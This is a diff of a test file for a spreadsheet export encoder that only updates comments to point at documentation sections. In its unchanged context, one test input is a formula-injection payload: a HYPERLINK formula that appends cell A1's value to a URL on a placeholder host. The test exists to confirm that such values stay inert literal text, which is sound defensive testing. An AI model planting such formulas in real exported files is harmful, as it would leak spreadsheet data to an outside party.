@@ -76,7 +76,8 @@ describe("encodeCell", () => {
     expect(cell(new Date("1850-05-01T00:00:00Z"))).toMatchObject({ value: "1850-05-01T00:00:00.000Z" });
   });
 
-  // RELIABILITY 1.1, 1.5: trigger-led values stay literal strings (no `'` prefix in XLSX).
+  // docs/EXPORTS.md#names-and-cells: trigger-led values stay literal strings (no `'` prefix in
+  // XLSX).
   it.each([
     '=HYPERLINK("http://x/?"&A1,"cv")',
     "+44 20 7946 0000",
@@ -96,7 +97,8 @@ describe("encodeCell", () => {
     expect(cell(s)).toMatchObject({ t: "inlineStr", value: s });
   });
 
-  // RELIABILITY 1.10: documented rule — XML-illegal characters become U+FFFD, one for one.
+  // docs/EXPORTS.md#spreadsheet-cells: documented rule — XML-illegal characters become U+FFFD, one
+  // for one.
   it.each([
     ["a\u0000b", "a\uFFFDb"],
     ["\u000Bx", "\uFFFDx"],
@@ -111,7 +113,7 @@ describe("encodeCell", () => {
   });
 });
 
-describe("Excel cell limits (RELIABILITY 1.8)", () => {
+describe("Excel cell limits (docs/EXPORTS.md#spreadsheet-cells)", () => {
   it("cuts a 40,000-char cell to 32,767 units ending with the marker", () => {
     const out = truncateForExcel("x".repeat(40_000));
     expect(out.length).toBe(MAX_CELL_CHARS);
